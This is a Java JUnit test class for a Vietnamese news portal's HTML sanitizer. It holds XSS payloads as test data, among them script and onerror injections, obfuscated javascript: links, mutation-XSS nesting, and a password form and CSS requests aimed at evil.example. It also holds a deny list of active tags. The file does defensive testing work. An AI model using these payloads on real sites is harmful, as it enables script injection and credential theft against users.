package vn.portal.intake;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import vn.portal.feed.read.FeedHints;
import vn.portal.feed.read.FeedReader;
import vn.portal.feed.read.ReadText;
import vn.portal.model.Article;
import vn.portal.model.PortalContext;
import vn.portal.model.When;
import vn.portal.notice.Origin;

/** Fields of other systems hold whatever somebody typed; nothing active of it gets into a body. */
class HostileEntriesTest {
    private static final Intake INTAKE = Intake.of(new PortalContext(
            "Cổng thông tin điện tử thành phố Hội An",
            "thành phố Hội An",
            "vi",
            ZoneId.of("Asia/Ho_Chi_Minh"),
            URI.create("https://cong.example/"),
            "cong.example",
            LocalDate.of(2024, 1, 1)));
    private static final Path CORPUS = Path.of(System.getProperty("portal.corpus", ""));
    private static final Origin ORIGIN = Origin.of("cu", "1");
    private static final Set<String> ACTIVE = Set.of(
            "script",
            "style",
            "iframe",
            "frame",
            "object",
            "embed",
            "applet",
            "svg",
            "math",
            "audio",
            "video",
            "form",
            "input",
            "button",
            "select",
            "textarea",
            "link",
            "meta",
            "base",
            "template",
            "noscript",
            "xmp",
            "plaintext");
    private static final Set<String> ADDRESSES = Set.of("href", "src");
    private static final Set<String> ATTRIBUTES =
            Set.of("href", "src", "alt", "title", "start", "colspan", "rowspan", "scope");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "<img src=x onerror=alert(1)>",
                "<a href='java&#10;script:alert(1)'>bấm</a>",
                "<a href='vbscript:x'>bấm</a>",
                "<a href='data:text/html,<script>alert(1)</script>'>bấm</a>",
                "<svg><style><img src onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
                "<form action='https://evil.example'><input name=password></form>",
                "<p style='background:url(https://evil.example/x)' onclick=x()>chữ</p>",
                "<style>@import 'https://evil.example/x.css'</style>",
                "<img src='https://dem.example/p.gif' width=1 height=1>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<b onmouseover=x()>chưa đóng"
            })
    void letsNothingActiveOfAFieldPass(String vector) {
        assertHarmless(vector);
        assertHarmless(vector.replace("<", "&lt;").replace(">", "&gt;"));
        var article = (Article) ((Outcome.Accepted) take(vector)).primary();
        assertThat(article.title()).startsWith("Tin");
        assertThat(article.lead()).startsWith("Sáng 22/2, thành phố ra quân.");
        assertThat(article.body().text()).startsWith("Đoàn viên nhặt rác.");
    }

    @Test
    void letsNoKnownVectorPass() throws IOException {
        var folder = CORPUS.resolve("hostile/html");
        assumeTrue(Files.isDirectory(folder), "no corpus of hostile pages at " + folder);
        try (Stream<Path> files = Files.list(folder)) {
            for (Path file : files.sorted().toList()) {
                var text = Files.readString(file, StandardCharsets.UTF_8);
                assertHarmless(text);
                for (var vector : text.split("(?=<div id=\"\\d)|\n")) {
                    assertHarmless(vector);
                }
            }
        }
    }

    @Test
    void letsNothingActiveOfAFeedPass() throws IOException {
        var folder = CORPUS.resolve("feeds/files");
        assumeTrue(Files.isDirectory(folder), "no corpus of feeds at " + folder);
        int texts = 0;
        try (Stream<Path> files = Files.walk(folder)) {
            for (Path file :
                    files.filter(HostileEntriesTest::isHostile).sorted().toList()) {
                for (var item : FeedReader.read(Files.readAllBytes(file), FeedHints.of(ORIGIN))
                        .items()) {
                    var told = Stream.concat(Stream.ofNullable(item.summary()), item.contents().stream());
                    for (var text : told.map(ReadText::absolute).toList()) {
                        assertHarmless(text);
                        texts++;
                    }
                }
            }
        }
        assertThat(texts).isPositive();
    }

    private static boolean isHostile(Path file) {
        return Files.isRegularFile(file) && file.toString().contains("sanitize");
    }

    private static Outcome take(String field) {
        var entry = Entry.article("Tin " + field)
                .lead("<p>Sáng 22/2, thành phố ra quân.</p>" + field)
                .body("<p>Đoàn viên nhặt rác.</p>" + field + "<p>Buổi lễ kết thúc.")
                .address("https://cu.example/tin/1")
                .published(When.day(LocalDate.of(2024, 2, 22), "database"))
                .build();
        return INTAKE.take(ORIGIN, entry, new byte[0], Hints.of(Hints.ENTRY));
    }

    private static void assertHarmless(String field) {
        if (take(field) instanceof Outcome.Accepted accepted) {
            var html = ((Article) accepted.primary()).body().html();
            Jsoup.parse(html, "https://cu.example/").body().getAllElements().forEach(e -> assertHarmless(e, html));
        }
    }

    private static void assertHarmless(Element element, String html) {
        assertThat(ACTIVE).as(html).doesNotContain(element.normalName());
        for (Attribute attribute : element.attributes()) {
            assertThat(ATTRIBUTES).as(html).contains(attribute.getKey());
            if (ADDRESSES.contains(attribute.getKey())) {
                assertThat(attribute.getValue().toLowerCase(Locale.ROOT))
                        .as(html)
                        .matches("(?s)(https?:|mailto:|tel:|ftp:|data:image/(png|gif|jpe?g|webp|bmp);base64,).*");
            }
        }
        assertThat(element.attr("src")).as(html).doesNotContain("dem.example");
    }
}
